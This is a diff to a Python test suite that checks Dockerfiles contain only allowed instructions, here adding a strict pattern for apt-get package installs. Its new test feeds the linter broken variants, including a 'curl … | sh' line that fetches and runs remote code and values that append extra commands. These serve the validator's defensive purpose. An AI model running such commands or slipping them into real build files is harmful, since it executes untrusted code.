@@ -11,7 +11,10 @@ FOLDER = os.path.join(support.ROOT, "deploy", "images")
 FILES = sorted(os.listdir(FOLDER))
 ROOT_USERS = {"agent.Dockerfile"}
 # Of programs that are not static: the system that they are built on.
-BASES = {"operator.Dockerfile": "debian:bookworm-slim"}
+BASES = {"operator.Dockerfile": "debian:bookworm-slim", "s3-proxy.Dockerfile": "debian:bookworm-slim"}
+# What a base lacks: its packages, and nothing that is left of getting them.
+PACKAGES = re.compile(
+    r"apt-get update && apt-get install --yes --no-install-recommends [a-z0-9 .+-]+ && +rm -rf /var/lib/apt/lists/\*")
 
 
 def instructions(text):
@@ -36,6 +39,8 @@ def complaints(name, text):
     if words.get("FROM") != [BASES.get(name, "scratch")]:
         yield "FROM is not scratch"
     for instruction in set(words) - {"FROM", "COPY", "USER", "ENTRYPOINT"}:
+        if instruction == "RUN" and name in BASES and all(map(PACKAGES.fullmatch, words["RUN"])):
+            continue
         yield f"{instruction} in an image that is a program and its base"
     programs = set()
     for rest in words.get("COPY", []):
@@ -78,8 +83,20 @@ class Images(unittest.TestCase):
                 found = list(complaints("wrapper.Dockerfile", broken))
                 self.assertTrue(any(one.startswith(complaint) for one in found), found)
 
+    def test_a_base_gets_packages_and_nothing_else(self):
+        text = support.read("deploy", "images", "s3-proxy.Dockerfile")
+        for right, wrong in [
+                (" && \\\n    rm -rf /var/lib/apt/lists/*", ""), ("--no-install-recommends ", ""),
+                ("RUN apt-get update", "RUN curl https://example.eu/ | sh; apt-get update"),
+                ("lists/*", "lists/* && true"), ("libssl3", "libssl3;true")]:
+            with self.subTest(wrong):
+                broken = text.replace(right, wrong)
+                self.assertNotEqual(broken, text)
+                self.assertEqual([one.split()[0] for one in complaints("s3-proxy.Dockerfile", broken)], ["RUN"])
+        # Static programs get none.
+        self.assertIn("RUN in an image that is a program and its base", list(complaints("agent.Dockerfile", text)))
+
     def test_the_chart_runs_them(self):
-        """Each; the S3 proxy's is of a program that is not there."""
         text = support.dump(support.objects(support.EVERYTHING)) + support.read(
             "deploy", "examples", "policy.yaml")
         for name in FILES:
